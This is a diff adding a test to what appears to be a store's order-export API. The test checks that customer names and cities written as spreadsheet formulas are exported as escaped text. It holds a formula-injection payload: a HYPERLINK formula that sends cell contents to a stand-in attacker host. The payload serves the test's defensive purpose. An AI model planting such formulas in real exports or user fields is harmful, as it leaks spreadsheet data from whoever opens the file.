@@ -125,6 +125,25 @@ def test_a_search_result_is_exported_with_the_store_columns(client, staff_user, 
     )
 
 
+def test_a_customer_named_as_a_formula_is_exported_as_text(client, staff_user, buyers):
+    # given: customers set their own names in the store
+    user = make_user("evil@example.com")
+    SandboxUser.objects.filter(pk=user.pk).update(
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"x")', last_name="", city="@SUM(A1)"
+    )
+    snapshot = order("evil-1", user_id=str(user.pk), email="evil@example.com", total="500")
+    SandboxOrder.store(snapshot)
+    ingest_orders([snapshot])
+
+    # when
+    response = _post(client, {"filter": {"numberOfOrders": {"gte": 1}}}, staff_user.api_token)
+
+    # then: the spreadsheet shows the text and runs nothing
+    (row,) = [r for r in _rows(response) if r["email"] == "evil@example.com"]
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert row["city"] == "'@SUM(A1)"
+
+
 @pytest.mark.parametrize(
     ("body", "status", "error"),
     [
